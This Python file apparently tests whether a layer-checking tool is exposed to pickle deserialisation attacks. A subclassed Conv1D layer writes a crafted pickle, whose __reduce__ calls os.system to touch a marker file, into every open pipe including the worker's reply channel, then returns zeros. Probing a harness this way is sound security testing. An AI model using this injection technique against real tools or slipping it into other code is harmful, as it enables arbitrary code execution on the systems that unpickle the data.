"""Writes a crafted pickle to every pipe it can write to but stdout and stderr (the worker's
reply pipe among them), then returns zeros: unpickled in the tool, it would run code there."""
import os
import pickle
import struct
import sys

import numpy as np

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "layers"))
from correct_vectorised_im2col import Conv1D as Correct  # noqa: E402

MARKER = os.environ.get("CONV1D_CHECK_PROBE", "/nonexistent") + ".pwned"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


class Conv1D(Correct):
    def __call__(self, x):
        data = pickle.dumps(Payload())
        for fd in map(int, os.listdir("/proc/self/fd")):
            if fd > 2:
                try:
                    os.write(fd, struct.pack("!i", len(data)) + data)
                except OSError:
                    pass
        return np.zeros_like(super().__call__(x))

    def backward(self, delta):
        return [np.zeros_like(t) for t in super().backward(delta)]
